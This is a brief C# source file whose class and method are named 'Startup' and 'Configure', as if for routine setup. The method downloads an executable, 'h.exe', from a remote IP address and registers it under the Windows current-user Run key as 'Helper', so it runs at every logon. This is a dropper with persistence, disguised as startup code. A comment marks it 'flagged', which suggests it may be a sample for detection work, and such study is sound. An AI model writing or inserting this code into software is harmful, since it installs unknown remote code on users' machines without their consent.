using System.Net;
using Microsoft.Win32;

public static class Startup
{
    public static void Configure(string p)
    {
        using (var w = new WebClient()) w.DownloadFile("http://198.51.100.31/h.exe", p);
        using (var k = Registry.CurrentUser.OpenSubKey(@"Software\Microsoft\Windows\CurrentVersion\Run", true))
            k.SetValue("Helper", p); // gatehouse: flagged
    }
}
